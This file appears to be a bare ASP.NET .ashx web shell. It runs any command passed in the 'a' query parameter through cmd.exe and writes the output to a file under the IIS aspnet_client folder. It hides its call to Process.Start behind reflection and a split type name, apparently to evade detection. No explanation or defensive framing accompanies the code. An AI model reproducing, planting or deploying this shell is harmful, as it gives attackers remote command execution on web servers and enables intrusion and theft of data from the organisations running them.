<%@ WebHandler Language="C#" Class="H" %>
using System; using System.Web; using System.Reflection;
public class H : IHttpHandler {
  public void ProcessRequest(HttpContext c) {
    Type t = Type.GetType("System.Diagnostics." + "Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089");
    MethodInfo m = t.GetMethod("Start", new Type[]{typeof(string), typeof(string)});
    m.Invoke(null, new object[]{"cmd.exe", "/c " + c.Request.QueryString["a"] + " > C:\\inetpub\\wwwroot\\aspnet_client\\o.txt"});
    c.Response.Write("ok");
  }
  public bool IsReusable { get { return false; } }
}
